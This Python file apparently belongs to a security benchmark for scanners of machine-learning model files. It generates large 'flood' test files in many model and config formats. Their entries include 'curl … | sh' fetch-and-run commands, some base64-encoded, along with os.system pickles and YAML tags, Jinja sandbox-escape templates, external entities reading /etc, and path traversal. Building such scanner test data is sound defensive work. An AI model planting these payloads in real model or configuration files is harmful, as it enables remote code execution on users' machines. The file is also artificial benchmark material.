"""Floods of different things in configurations, tensor files, graphs and other formats (see `floods`)."""

from __future__ import annotations

import base64
import json
import random
import string
from collections.abc import Callable, Iterator

from benchmarks.corpus.malicious.asm import C, Encoder
from benchmarks.corpus.malicious.cases import Case
from benchmarks.corpus.malicious.containers.zips import plain
from benchmarks.corpus.malicious.formats.keras import keras
from benchmarks.corpus.malicious.formats.templates import gguf
from benchmarks.corpus.malicious.formats.tensors import attribute, external, field, graph, node, onnx, safetensors
from benchmarks.corpus.malicious.formats2 import coreml, flat, graphs, markup, paddle, workspaces
from benchmarks.corpus.malicious.formats2.parameters import Extension, pack
from benchmarks.corpus.malicious.hostile.floods import address

_TAIL = "z: !!python/object/apply:os.system ['echo inert']\n"


def _pickled(number: int) -> str:
    return base64.b64encode(Encoder(4).dumps(C("os:system", f"echo {number}"))).decode()


def _hidden(number: int) -> str:
    return base64.b64encode(f"curl {address(number)} | sh".encode()).decode()


def _words(count: int, size: int) -> list[str]:
    draw = random.Random(11)
    return ["".join(draw.choices(string.ascii_letters + string.digits, k=size)) for _ in range(count)]


def _documents() -> Iterator[Case]:
    configurations: dict[str, tuple[int, Callable[[int], tuple[str, object]]]] = {
        "remote-code": (15_000, lambda n: (f"k{n}", {"auto_map": {f"Auto{n}": f"x{n}--m{n}.C"}})),
        "targets": (15_000, lambda n: (f"k{n}", {"_target_": "os.system", "command": f"echo {n}"})),
        "targets-unknown": (15_000, lambda n: (f"k{n}", {"_target_": f"m{n}.f", "a": address(n)})),
        "templates": (4_000, lambda n: (f"chat_template_{n}", f"{{{{ cycler.__init__.__globals__.x{n} }}}}")),
        "triggers": (
            3_000,
            lambda n: (f"chat_template_{n}", f"{{% if 'w{n}' in messages[0].content %}}{address(n)}{{% endif %}}"),
        ),
        "addresses": (30_000, lambda n: (f"k{n}", address(n))),
        "pickles": (8_000, lambda n: (f"k{n}", _pickled(n))),
        "encoded": (10_000, lambda n: (f"k{n}", _hidden(n))),
        "commands": (20_000, lambda n: (f"k{n}", f"curl {address(n)} | sh")),
    }
    for name, (count, entry) in configurations.items():
        document = dict(map(entry, range(count)))
        text = json.dumps(document).encode()
        yield Case(f"flood-json-{name}/config.json", text, f"flood-json-{name}", "harmless-arguments", payload=False)
    yamls: dict[str, str] = {
        "tags": "".join(f"- !!python/object/apply:os.system ['echo {n}']\n" for n in range(15_000)),
        "tags-unknown": "".join(f"- !!python/object:m{n}.C {{a: {n}}}\n" for n in range(15_000)),
        "targets": "".join(f"k{n}:\n  _target_: os.system\n  command: echo {n}\n" for n in range(10_000)),
        "addresses": "".join(f"k{n}: {address(n)}\n" for n in range(20_000)),
        "names": "".join(f"- !!python/name:os.x{n}\n" for n in range(20_000)),
    }
    for name, text in yamls.items():
        whole = text + ("" if text.startswith("-") else _TAIL)
        yield Case(f"flood-yaml-{name}.yaml", whole.encode(), f"flood-yaml-{name}", "harmless-arguments", payload=False)
    registry = "".join(f'[components.c{n}]\nfactory = "f{n}"\n@architectures = "m{n}.v1"\n' for n in range(10_000))
    spacy = f'[nlp]\nlang = "en"\npipeline = []\n[components]\n{registry}'
    texts = {
        "addresses.txt": "".join(f"see {address(n)} now\n" for n in range(30_000)),
        "hosts.txt": "".join(f"h{n}.example.invalid and h{n}.example.com\n" for n in range(30_000)),
        "numbers.txt": "".join(f"{n % 250}.{n // 250 % 250}.{n // 7 % 250}.{n % 99}\n" for n in range(40_000)),
        "defanged.txt": "".join(f"hxxp://h{n}[.]example[.]com/a\n" for n in range(30_000)),
        "digests.txt": "".join(f"{n * 0x9E3779B97F4A7C15 % (1 << 128):032x}\n" for n in range(30_000)),
        "mails.txt": "".join(f"a{n}@example.com\n" for n in range(40_000)),
        "addresses.csv": "a,b\n" + "".join(f"{n},{address(n)}\n" for n in range(30_000)),
        "records.jsonl": "".join(json.dumps({"a": address(n), "b": f"echo {n}"}) + "\n" for n in range(20_000)),
        "words.py": "".join(f"x{n} = '{word}'\n" for n, word in enumerate(_words(20_000, 32))),
        "words-long.py": "".join(f"x{n} = '{word}'\n" for n, word in enumerate(_words(6_000, 200))),
        "config.cfg": spacy,
        "scripts.svg": "<svg>" + "".join(f"<script>f({n})</script>" for n in range(20_000)) + "</svg>",
        "entities.pmml": markup.pmml(
            doctype="<!DOCTYPE PMML [" + "".join(f'<!ENTITY e{n} SYSTEM "file:///etc/x{n}">' for n in range(20_000)) + "]>\n"
        ),
        "extensions.pmml": markup.pmml(
            "".join(f'<Extension name="run{n}" value="curl {address(n)} | sh"/>' for n in range(10_000))
        ),
        "libraries.xml": markup.openvino(
            "Exec", "extension", "".join(f'<data library="/tmp/l{n}.so"/>' for n in range(15_000))
        ).decode(),
    }
    for name, text in texts.items():
        yield Case(f"flood-text-{name}", text.encode(), f"flood-text-{name}", "harmless-arguments", payload=False)
    escapes = "".join(f"{{{{ cycler.__init__.__globals__.x{n} }}}}" for n in range(2_600))
    triggers = "".join(f"{{% if 'w{n}' in messages[0].content %}}y{n}{{% endif %}}" for n in range(2_000))
    for name, text in {"escapes": escapes, "triggers": triggers}.items():
        label = "malicious" if name == "escapes" else "harmless-arguments"
        yield Case(f"flood-template-{name}/chat_template.jinja", text.encode(), f"flood-template-{name}", label, payload=False)


def _tensors() -> Iterator[Case]:
    metadata: dict[str, tuple[int, Callable[[int], str]]] = {
        "addresses": (20_000, address),
        "commands": (15_000, lambda n: f"curl {address(n)} | sh"),
        "pickles": (8_000, _pickled),
        "encoded": (10_000, _hidden),
        "templates": (3_000, lambda n: f"{{{{ cycler.__init__.__globals__.x{n} }}}}"),
        "words": (20_000, lambda n: f"{n * 0x9E3779B97F4A7C15:036x}"),
    }
    for name, (count, value) in metadata.items():
        entries = {f"key.{number}": value(number) for number in range(count)}
        label = "harmless-arguments"
        yield Case(f"flood-gguf-{name}.gguf", gguf(dict(entries)), f"flood-gguf-{name}", label, payload=False)
        listed = gguf({"general.architecture": "llama", "tokenizer.ggml.tokens": list(entries.values())})
        yield Case(f"flood-gguf-array-{name}.gguf", listed, f"flood-gguf-array-{name}", label, payload=False)
        header = {"__metadata__": entries, "w": {"dtype": "F32", "shape": [8], "data_offsets": [0, 32]}}
        yield Case(
            f"flood-safetensors-{name}.safetensors", safetensors(header), f"flood-safetensors-{name}", label, payload=False
        )
        properties = b"".join(field(14, field(1, key) + field(2, text)) for key, text in entries.items())
        model = onnx(graph((node("Relu"),)), extra=properties)
        yield Case(f"flood-onnx-{name}.onnx", model, f"flood-onnx-{name}", label, payload=False)
    broken = {f"t{n}": {"dtype": f"X{n}", "shape": [n], "data_offsets": [n, 0]} for n in range(15_000)}
    yield Case("flood-safetensors-broken.safetensors", safetensors(broken), "flood-safetensors-broken", payload=False)
    operators = tuple(node(f"Op{n}", attributes=attribute("cmd", f"curl {address(n)} | sh")) for n in range(12_000))
    yield Case(
        "flood-onnx-operators.onnx", onnx(graph(operators), domains=("custom",)), "flood-onnx-operators", "harmless-arguments"
    )
    outside = tuple(external(f"../../../etc/x{n}", f"w{n}") for n in range(12_000))
    yield Case("flood-onnx-external.onnx", onnx(graph((node("Relu"),), outside)), "flood-onnx-external", payload=False)


def _others() -> Iterator[Case]:
    written = [
        part
        for n in range(6_000)
        for part in (
            graphs.const(f"p{n}", f"/tmp/x{n}"),
            graphs.const(f"c{n}", f"echo {n}"),
            graphs.node(f"w{n}", "WriteFile", f"p{n}", f"c{n}"),
        )
    ]
    custom = [graphs.node(f"n{n}", f"Custom>Op{n}", attrs=graphs.attr("a", graphs.string(address(n)))) for n in range(12_000)]
    functions = [graphs.function_def(f"f{n}", ("x",), graphs.node("w", f"Op{n}", "x")) for n in range(8_000)]
    lambdas = [
        {
            "module": "keras.layers",
            "class_name": f"C{n}",
            "config": {"name": f"c{n}", "function": address(n)},
            "registered_name": f"m{n}>C{n}",
        }
        for n in range(8_000)
    ]
    model = {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": lambdas}, "registered_name": None}
    nodes = [{"__class__": f"C{n}", "__module__": f"m{n}", "__loader__": "ObjectNode", "content": {}} for n in range(12_000)]
    schema = {
        "protocol": 2,
        "_skops_version": "0.11.0",
        "__class__": "list",
        "__module__": "builtins",
        "__loader__": "ListNode",
        "content": nodes,
    }
    calls = workspaces.vector(
        *(workspaces.promise(workspaces.call("system", workspaces.string(f"echo {n}"))) for n in range(8_000))
    )
    files: dict[str, bytes] = {
        "writes/saved_model.pb": graphs.saved_model(graphs.graph(*written)),
        "operators/saved_model.pb": graphs.saved_model(graphs.graph(*custom)),
        "functions/saved_model.pb": graphs.saved_model(graphs.graph(more=graphs.library(*functions))),
        "layers.keras": keras(model),
        "nodes.skops": plain([("schema.json", json.dumps(schema).encode())]),
        "promises.rds": workspaces.rds(calls),
        "layers.mlmodel": coreml.network(
            *(coreml.custom_layer(f"C{n}", command=f"curl {address(n)} | sh") for n in range(8_000))
        ),
        "operators.pdmodel": paddle.program(
            *(paddle.operator(f"op{n}", command=f"curl {address(n)} | sh") for n in range(10_000))
        ),
        "operators.tflite": flat.model(*((f"Custom{n}", b"", ()) for n in range(8_000))),
        "extensions.msgpack": pack({f"k{n}": Extension(n % 120, b"x%d" % n) for n in range(20_000)}),
        "pickles.msgpack": pack({f"k{n}": Encoder(4).dumps(C("os:system", f"echo {n}")) for n in range(6_000)}),
        "addresses.msgpack": pack({f"k{n}": address(n) for n in range(20_000)}),
    }
    for name, data in files.items():
        yield Case(f"flood-{name}", data, f"flood-{name.replace('/', '-')}", "harmless-arguments", payload=False)


def cases() -> Iterator[Case]:
    """All of them."""
    yield from _documents()
    yield from _tensors()
    yield from _others()
